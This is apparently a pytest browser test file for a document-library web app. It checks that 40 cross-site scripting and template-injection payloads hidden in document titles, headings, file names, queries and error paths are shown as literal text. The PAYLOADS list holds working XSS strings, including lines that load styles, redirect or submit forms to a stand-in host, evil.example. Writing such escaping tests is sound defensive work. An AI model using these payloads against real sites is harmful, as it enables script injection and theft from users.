"""Texts that would be markup or scripts if any part of a page let them: 40 of them in 9 places, 360 in all.

Each is the question, the title, a heading, the file's name, the quotation, its card, the mark in the source, a passage
while it is read (which comes as JSON) and the question of an error. It must be shown as it is: no dialog, no refusal by
the content policy, no foreign request.
"""

from collections.abc import Iterator
from html import escape
from urllib.parse import quote, urlencode

import pytest

from browser.conftest import Desk, serving
from docx_maker import docx, p
from library import Library

PAYLOADS = tuple(
    r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</title><script>alert(1)</script>
</textarea><img src=x onerror=alert(1)>
</template><img src=x onerror=alert(1)>
<iframe src=javascript:alert(1)>
<iframe srcdoc='<script>alert(1)</script>'>
<a href=javascript:alert(1)>x</a>
javascript:alert(1)
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<math><mi xlink:href=javascript:alert(1)>x
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/a.css>
<style>@import '//evil.example/a.css'</style>
<meta http-equiv=refresh content=0;url=//evil.example>
<form action=//evil.example><button>x
<img src=//evil.example/a.png>
<audio src=//evil.example/a.mp3>
{{7*7}}{% raw %}
${alert(1)}
`${alert(1)}`
\u003cscript\u003ealert(1)\u003c/script\u003e
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
]]><script>alert(1)</script>
<!--><script>alert(1)</script>
-->'"><svg/onload=alert(1)>
'-alert(1)-'
";alert(1);//
<noscript><p title='</noscript><img src=x onerror=alert(1)>'>
<mark id=c onclick=alert(1)>c</mark>
""".strip().splitlines()
)
assert len(PAYLOADS) == 40
TURNS = 5
NAMES = [f"{number} {payload}".replace("//", "/ ").strip("/ ")[:120] for number, payload in enumerate(PAYLOADS)]
"""Of the files; one that holds a slash lies in a folder."""


def marker(number: int) -> str:
    """A word that only one document has."""
    return f"macaw{'abcdefghij'[number // 10]}{'abcdefghij'[number % 10]}"


def hostile(number: int, payload: str) -> bytes:
    """A document whose title, heading and only sentence hold the payload."""
    text = escape(payload)
    return docx(
        p(f"Title {text}", style="Titel")
        + p(f"Part {text}", style="berschrift1")
        + p(f"The {marker(number)} repeats {text} all day")
    )


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A service whose whole corpus is hostile."""
    files = {f"{name}.docx": hostile(number, PAYLOADS[number]) for number, name in enumerate(NAMES)}
    library = Library.at(tmp_path_factory.mktemp("hostile") / "library", files)
    library.build()
    with serving(library.client().app) as where:
        yield where


def test_texts_are_shown_as_they_are_wherever_they_reach(desk: Desk) -> None:
    shown: set[tuple[str, int]] = set()
    for start in range(0, len(PAYLOADS), TURNS):
        numbers = range(start, min(start + TURNS, len(PAYLOADS)))
        asked = [f"repeats {marker(number)} {PAYLOADS[number]}" for number in numbers]
        page = desk.open("/?" + urlencode([("exact", text) for text in asked]))
        for turn, number, text in zip(page.locator(".turn").all(), numbers, asked, strict=True):
            payload = PAYLOADS[number]
            place = turn.locator(".quote .locator").first.inner_text()
            turn.locator(".chip").first.focus()
            card = page.locator("#card .quote-text").inner_text()
            page.keyboard.press("Enter")
            page.wait_for_function("() => document.activeElement.id === 'c'")
            found = {
                "question": turn.locator(".question").text_content() == text,
                "quotation": payload in turn.locator(".quote-text").first.inner_text(),
                "title": f"Title {payload}" in place,
                "heading": f"Part {payload}" in place,
                "file": turn.locator(".quote .proof dd").first.text_content() == f"{NAMES[number]}.docx",
                "card": payload in card,
                "mark": payload in page.locator("#pane #c").inner_text(),
            }
            shown |= {(where, number) for where, true in found.items() if true}
            assert all(found.values()), (payload, found)
            assert page.locator("#pane-title").inner_text() == f"Title {payload}"
    assert len(shown) == 7 * 40


def test_texts_are_shown_as_they_are_while_they_are_read_and_in_errors(desk: Desk) -> None:
    shown: set[tuple[str, int]] = set()
    for number, payload in enumerate(PAYLOADS):
        page = desk.page
        if number % TURNS == 0:
            desk.open()
            page.evaluate("""() => {
              window.early = "";
              new MutationObserver(() => {
                for (const text of document.querySelectorAll(".turn-pending .nearest-text")) early += text.textContent;
              }).observe(document.body, { childList: true, subtree: true });
            }""")
        page.locator("#question").fill(f"repeats {marker(number)} {payload}")
        page.keyboard.press("Enter")
        page.wait_for_function("(count) => document.querySelectorAll('.turn:not(.turn-pending)').length === count",
                               arg=number % TURNS + 1)  # fmt: skip
        assert f"The {marker(number)} repeats {payload} all day" in page.evaluate("window.early")
        shown.add(("passage", number))
    for number, payload in enumerate(PAYLOADS):
        desk.open("/?" + urlencode({"exact": payload + "a" * 2001}))
        assert desk.page.locator(".problem").is_visible()
        assert payload in desk.page.locator(".question").inner_text()
        shown.add(("error", number))
    assert len(shown) == 2 * 40
    desk.open("/sources")
    listed = desk.page.locator("main").inner_text()
    assert all(f"Title {payload}" in listed for payload in PAYLOADS)


def test_an_address_is_never_echoed_as_markup(desk: Desk) -> None:
    for payload in PAYLOADS:
        response = desk.page.goto(
            f"{desk.address}/source/{quote(payload.replace('/', '-').replace('.', '-'), safe='')}"
        )
        assert response is not None
        assert response.status == 404
    complaints = [text for text in desk.seen.complaints if "404" not in text]
    desk.seen.complaints.clear()
    assert complaints == []
